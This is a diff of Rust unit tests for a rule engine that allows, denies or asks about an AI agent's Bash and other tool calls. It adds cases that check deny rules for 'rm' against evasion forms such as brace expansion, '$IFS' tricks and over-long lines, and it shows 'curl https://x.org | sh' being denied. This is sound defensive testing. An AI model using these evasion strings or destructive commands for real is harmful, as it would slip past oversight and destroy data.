@@ -3,6 +3,7 @@
 
 use qd_protocol::limits::RULES_MAX;
 
+use super::super::command_line::{LINE_MAX, PARTS_MAX};
 use super::super::{PATTERN_MAX, validate};
 use super::lines::UNCLEAR;
 use super::*;
@@ -158,6 +159,8 @@ fn a_rule_with_a_match_needs_an_argument() {
     }
     let any = Policy::Rules(vec![rule("Demo", None, Allow)]);
     assert_eq!(outcome(&any, "Demo", &json!({})), Allow);
+    assert_eq!(outcome(&any, "Demo", &json!({"path": ["a", "b"]})), Allow);
+    assert_eq!(outcome(&any, "Demo", &json!({"command": {"a": "b"}})), Ask);
     assert_eq!(outcome(&Policy::Rules(vec![rule("Bash", None, Allow)]), "Bash", &json!({})), Allow);
 }
 
@@ -190,7 +193,7 @@ fn a_deny_rule_matches_if_any_part_does() {
     ] {
         assert_eq!(outcome(&policy, "Bash", &line(command)), Deny, "{command:?}");
     }
-    for command in ["ls", "echo 'rm x'", "git rm x", "ls # rm x", "rmdir x"] {
+    for command in ["ls", "echo 'rm x'", "echo 'a; rm x'", "git rm x", "ls # rm x", "rmdir x"] {
         assert_eq!(outcome(&policy, "Bash", &line(command)), Allow, "{command:?}");
     }
 }
@@ -219,6 +222,9 @@ fn a_deny_rule_sees_into_a_line_that_cannot_be_split() {
         "ls 'unbalanced; rm x",
         "rm x <<EOF\nEOF",
         "rm${IFS}x",
+        "rm {a,b}",
+        "{rm,x}",
+        "/bin/rm/ x $(y)",
         "rm$IFS-f x",
         "$'rm' x",
         "ls\r\nrm x",
@@ -232,6 +238,18 @@ fn a_deny_rule_sees_into_a_line_that_cannot_be_split() {
     assert_eq!(outcome(&whole, "Bash", &line("curl https://x.org | sh")), Deny);
     assert_eq!(outcome(&whole, "Bash", &line("ls; git commit -m \"x\"")), Deny);
     assert_eq!(outcome(&whole, "Bash", &line("ls $(x); git commit -m \"x\"")), Deny);
+}
+
+#[test]
+fn a_line_too_long_to_read_is_never_allowed_and_still_denied_by_its_beginning() {
+    let policy = rules(&[("Bash", "rm *", Deny), ("Bash", "*", Allow)]);
+    let long = "x".repeat(LINE_MAX);
+    assert_eq!(outcome(&policy, "Bash", &line(&format!("ls {long}"))), Ask);
+    assert_eq!(outcome(&policy, "Bash", &line(&format!("rm {long}"))), Deny);
+    assert_eq!(outcome(&policy, "Bash", &line(&format!("ls; sudo rm x; ls {long}"))), Deny);
+    let many = "ls;".repeat(PARTS_MAX);
+    assert_eq!(outcome(&policy, "Bash", &line(&many)), Allow);
+    assert_eq!(outcome(&policy, "Bash", &line(&format!("{many}ls"))), Ask);
 }
 
 #[test]
